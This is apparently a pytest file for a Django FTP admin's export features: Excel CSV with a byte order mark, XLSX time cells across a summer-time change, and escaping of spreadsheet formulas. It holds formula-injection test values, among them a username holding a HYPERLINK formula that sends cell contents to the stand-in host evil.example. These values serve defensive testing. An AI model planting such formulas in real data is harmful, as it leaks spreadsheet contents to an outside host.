"""Exports that open well in a spreadsheet (issue 13).

CSV (Excel) starts with a UTF-8 byte order mark, plain CSV does not; the
formats for people have the fields' verbose names as headers; XLSX holds
times as date-time cells in TIME_ZONE; the transfers CSV has no column that
repeats another; the formula guard holds in every format.
"""

import csv
import datetime
import ftplib
import io
import json
import zoneinfo

import openpyxl
import pytest
from django.urls import reverse

from ftpadmin import exports
from ftpadmin.resources import AuditEventResource
from ftpserver_core.models import AuditEvent

from .audit_tools import wait_until

UTC = datetime.UTC
PARIS = zoneinfo.ZoneInfo("Europe/Paris")
EXPORT = reverse("admin:ftpserver_core_auditevent_export")
FIELDS = AuditEventResource().get_export_order()
TRANSFERS_CSV = reverse("ftpadmin:transfers_csv")
TRANSFERS_EXCEL_CSV = reverse("ftpadmin:transfers_excel_csv")
ACCOUNTS_EXPORT = reverse("admin:ftpserver_core_ftpuseraccount_export")
BOM = b"\xef\xbb\xbf"
NAME = "/in/résumé.txt"
# Clocks went forward in Paris at 01:00 UTC on 29 March 2026: 01:30 CET
# (UTC+1) is followed an hour later by 03:30 CEST (UTC+2).
BEFORE_DST = datetime.datetime(2026, 3, 29, 0, 30, 15, tzinfo=UTC)
AFTER_DST = datetime.datetime(2026, 3, 29, 1, 30, 45, tzinfo=UTC)
FORMULAS = ['=HYPERLINK("http://example.invalid")', "+1+2", "-3+4", "@SUM(A1)"]


@pytest.fixture
def paris(settings):
    settings.TIME_ZONE = "Europe/Paris"


@pytest.fixture
def records(db):
    return AuditEvent.objects.bulk_create(
        [
            AuditEvent(
                time=BEFORE_DST,
                event="upload",
                username="zoé",
                group="équipe",
                remote_ip="192.0.2.10",
                remote_port=50000,
                session_id="a1" * 16,
                ftp_path=NAME,
                size=1234,
                duration=0.5,
                tls=True,
            ),
            AuditEvent(
                time=AFTER_DST,
                event="download_incomplete",
                username="zoé",
                remote_ip="2001:db8::7",
                ftp_path=NAME,
                size=12,
                duration=3.25,
            ),
        ]
    )


def _formats(client):
    """Return the export form's choices: {label: value}."""
    response = client.get(EXPORT)
    assert response.status_code == 200
    return {
        str(label): value
        for value, label in response.context["form"].fields["format"].choices
    }


def _export(client, label, query=""):
    data = {"format": _formats(client)[label], "resource": "0"}
    data |= {f"auditeventresource_{name}": "on" for name in FIELDS}
    response = client.post(f"{EXPORT}?{query}" if query else EXPORT, data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment;")
    return response


def _labels():
    return [AuditEventResource.field_label(name) for name in FIELDS]


def _stream(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content)


# The audit export in the admin ----------------------------------------------------


def test_the_export_form_offers_csv_for_excel_next_to_csv(admin_client, db):
    assert list(_formats(admin_client)) == ["---", "csv", "csv (Excel)", "xlsx", "json"]


def test_the_export_form_labels_columns_with_verbose_names(admin_client, db):
    form = admin_client.get(EXPORT).context["form"]
    labels = {
        name: form.fields[f"auditeventresource_{name}"].label
        for name in ("remote_ip", "tls", "ftp_path", "account_id")
    }
    assert labels == {
        "remote_ip": "Client IP",
        "tls": "TLS",
        "ftp_path": "Path",
        "account_id": "Account ID",
    }
    html = admin_client.get(EXPORT).content.decode()
    for title in ("Remote Ip", "Tls", "Ftp Path"):
        assert f">{title}<" not in html and f"{title}</label>" not in html


def test_csv_for_excel_has_a_bom_and_labels(admin_client, records):
    response = _export(admin_client, "csv (Excel)")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].endswith('.csv"')
    body = response.content
    assert body.startswith(BOM)
    assert not body[3:].startswith(BOM)
    # What Excel does with a BOM: read UTF-8; "utf-8-sig" drops the mark.
    text = body.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text))
    header = next(reader)
    assert header == _labels()
    assert header[:4] == ["ID", "Time", "Event", "Username"]
    assert {"Client IP", "TLS", "Path", "Bytes"} <= set(header)
    rows = sorted(
        (dict(zip(FIELDS, row, strict=True)) for row in reader),
        key=lambda r: r["time"],
    )
    assert [r["ftp_path"] for r in rows] == [NAME, NAME]
    assert rows[0]["username"] == "zoé" and rows[0]["group"] == "équipe"
    # Times stay ISO 8601 with their offset in every CSV.
    assert sorted(r["time"] for r in rows) == [
        BEFORE_DST.isoformat(),
        AFTER_DST.isoformat(),
    ]
    # What Excel shows without the BOM (it reads the ANSI code page).
    assert "rÃ©sumÃ©" in body.decode("cp1252", errors="replace")


def test_plain_csv_is_unchanged(admin_client, records):
    body = _export(admin_client, "csv").content
    assert not body.startswith(BOM)
    reader = csv.reader(io.StringIO(body.decode("utf-8")))
    assert next(reader) == list(FIELDS)
    assert sorted(row[FIELDS.index("ftp_path")] for row in reader) == [NAME, NAME]


def test_json_keeps_field_names_and_iso_times(admin_client, records, paris):
    data = json.loads(_export(admin_client, "json").content)
    assert list(data[0]) == list(FIELDS)
    assert sorted(r["time"] for r in data) == [
        "2026-03-29T01:30:15+01:00",
        "2026-03-29T03:30:45+02:00",
    ]


def test_csv_times_are_iso_in_time_zone(admin_client, records, paris):
    for label in ("csv", "csv (Excel)"):
        text = _export(admin_client, label).content.decode("utf-8-sig")
        times = sorted(row[1] for row in list(csv.reader(io.StringIO(text)))[1:])
        assert times == ["2026-03-29T01:30:15+01:00", "2026-03-29T03:30:45+02:00"]
        assert [datetime.datetime.fromisoformat(t) for t in times] == [
            BEFORE_DST,
            AFTER_DST,
        ]


def test_xlsx_has_date_time_cells_in_time_zone(admin_client, records, paris):
    response = _export(admin_client, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    assert header == _labels()
    column = header.index("Time")
    cells = sorted(
        (row[column] for row in sheet.iter_rows(min_row=2)), key=lambda c: c.value
    )
    assert [c.is_date for c in cells] == [True, True]
    assert all(isinstance(c.value, datetime.datetime) for c in cells)
    # Wall-clock times in Paris, on either side of the change to summer time.
    assert [c.value for c in cells] == [
        datetime.datetime(2026, 3, 29, 1, 30, 15),
        datetime.datetime(2026, 3, 29, 3, 30, 45),
    ]
    assert [c.value.replace(tzinfo=PARIS) for c in cells] == [BEFORE_DST, AFTER_DST]
    assert {c.number_format for c in cells} == {"yyyy-mm-dd hh:mm:ss"}
    # Wide enough to show the time (Excel shows ##### in a narrow column).
    letter = openpyxl.utils.get_column_letter(column + 1)
    assert sheet.column_dimensions[letter].width >= 19
    # Names are text cells; sizes are numbers.
    path = sheet.cell(row=2, column=header.index("Path") + 1)
    assert (path.value, path.data_type) == (NAME, "s")
    size = sheet.cell(row=2, column=header.index("Bytes") + 1)
    assert isinstance(size.value, int)


def test_xlsx_time_in_utc_when_time_zone_is_utc(admin_client, records, settings):
    settings.TIME_ZONE = "UTC"
    sheet = openpyxl.load_workbook(
        io.BytesIO(_export(admin_client, "xlsx").content)
    ).active
    times = sorted(row[1].value for row in sheet.iter_rows(min_row=2))
    assert times == [BEFORE_DST.replace(tzinfo=None), AFTER_DST.replace(tzinfo=None)]


# The formula guard (issue 10) in every format -------------------------------------


@pytest.fixture
def formulas(db):
    AuditEvent.objects.bulk_create(
        AuditEvent(
            time=BEFORE_DST + datetime.timedelta(seconds=n),
            event="upload",
            username=text,
            ftp_path=text,
        )
        for n, text in enumerate(FORMULAS)
    )


@pytest.mark.parametrize("label", ["csv", "csv (Excel)"])
def test_csv_formats_neutralise_formulas(admin_client, formulas, label):
    text = _export(admin_client, label).content.decode("utf-8-sig")
    rows = [
        dict(zip(FIELDS, row, strict=True))
        for row in list(csv.reader(io.StringIO(text)))[1:]
    ]
    assert sorted(r["ftp_path"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert sorted(r["username"] for r in rows) == sorted("'" + f for f in FORMULAS)


def test_xlsx_keeps_formulas_as_text(admin_client, formulas):
    sheet = openpyxl.load_workbook(
        io.BytesIO(_export(admin_client, "xlsx").content)
    ).active
    column = [c.value for c in sheet[1]].index("Path")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}


def test_transfers_csv_for_excel_neutralises_formulas(audit_viewer, formulas):
    text = _stream(audit_viewer, TRANSFERS_EXCEL_CSV).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    column = exports.CSV_HEADER.index("ftp_path")
    assert sorted(row[column] for row in rows) == sorted("'" + f for f in FORMULAS)


def _export_accounts(client, label):
    """The accounts export (ImportExportModelAdmin) in format ``label``."""
    form = client.get(ACCOUNTS_EXPORT).context["form"]
    formats = {str(text): value for value, text in form.fields["format"].choices}
    fields = [name for name in form.fields if name.startswith("ftpuseraccount")]
    data = {"format": formats[label]} | dict.fromkeys(fields, "on")
    response = client.post(ACCOUNTS_EXPORT, data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment;")
    return response


def test_the_accounts_csv_export_neutralises_formulas(admin_client, make_account):
    """Group names and e-mail addresses are chosen by people too."""
    for n, text in enumerate(FORMULAS):
        account = make_account(f"user{n}", group=text)
        account.user.email = text + "@example.com"
        account.user.save()
    text = _export_accounts(admin_client, "csv").content.decode("utf-8")
    rows = [r for r in csv.DictReader(io.StringIO(text)) if r["username"] != "admin"]
    assert sorted(r["group"] for r in rows) == sorted("'" + f for f in FORMULAS)
    assert sorted(r["email"] for r in rows) == sorted(
        f"'{f}@example.com" for f in FORMULAS
    )
    # Nothing else starts a formula either.
    cells = [cell for r in rows for cell in r.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells


EVIL_USER = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize("label", ["csv", "csv (Excel)"])
def test_a_username_an_ftp_client_sent_is_exported_escaped(
    admin_client, ftp_server, label
):
    """End to end: a real client's USER, recorded by the server's audit, is
    text in the admin's CSV export, never a formula."""
    live = ftp_server()
    ftp = live.client()
    with pytest.raises(ftplib.error_perm, match="^530"):
        ftp.login(EVIL_USER, "wrong")
    ftp.quit()
    wait_until(
        lambda: AuditEvent.objects.filter(event="login_failed").exists(), timeout=10
    )
    assert AuditEvent.objects.get(event="login_failed").username == EVIL_USER
    text = _export(admin_client, label).content.decode("utf-8-sig")
    rows = [
        dict(zip(FIELDS, row, strict=True))
        for row in list(csv.reader(io.StringIO(text)))[1:]
    ]
    failed = [r for r in rows if r["event"] == "login_failed"]
    assert [r["username"] for r in failed] == ["'" + EVIL_USER]
    cells = [cell for r in rows for cell in r.values()]
    assert EVIL_USER not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells


# The streaming transfers CSV ------------------------------------------------------


def test_transfers_csv_columns(audit_viewer, records):
    body = _stream(audit_viewer, TRANSFERS_CSV)
    assert not body.startswith(BOM)
    reader = csv.DictReader(io.StringIO(body.decode("utf-8")))
    assert reader.fieldnames == exports.CSV_HEADER
    assert "direction" not in reader.fieldnames
    assert reader.fieldnames[:3] == ["time", "event", "status"]
    rows = list(reader)
    assert [(r["event"], r["status"], r["ftp_path"]) for r in rows] == [
        ("upload", "complete", NAME),
        ("download_incomplete", "incomplete", NAME),
    ]


def test_transfers_csv_for_excel(audit_viewer, records, paris):
    response = audit_viewer.get(f"{TRANSFERS_EXCEL_CSV}?user=zoé")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].endswith('.csv"')
    body = b"".join(response.streaming_content)
    assert body.startswith(BOM) and body.count(BOM) == 1
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == exports.csv_labels()
    assert rows[0][:3] == ["Time", "Event", "Status"]
    assert {"Username", "Client IP", "Path", "Bytes", "TLS"} <= set(rows[0])
    data = [dict(zip(exports.CSV_HEADER, row, strict=True)) for row in rows[1:]]
    assert [(r["time"], r["username"], r["ftp_path"]) for r in data] == [
        ("2026-03-29T01:30:15+01:00", "zoé", NAME),
        ("2026-03-29T03:30:45+02:00", "zoé", NAME),
    ]


def test_the_report_links_to_both_csv_exports(audit_viewer, records):
    html = audit_viewer.get(
        reverse("ftpadmin:transfers") + "?user=zoé"
    ).content.decode()
    assert f'href="{TRANSFERS_CSV}?user=zo%C3%A9"' in html
    assert f'href="{TRANSFERS_EXCEL_CSV}?user=zo%C3%A9"' in html
    assert "Export CSV (Excel)" in html
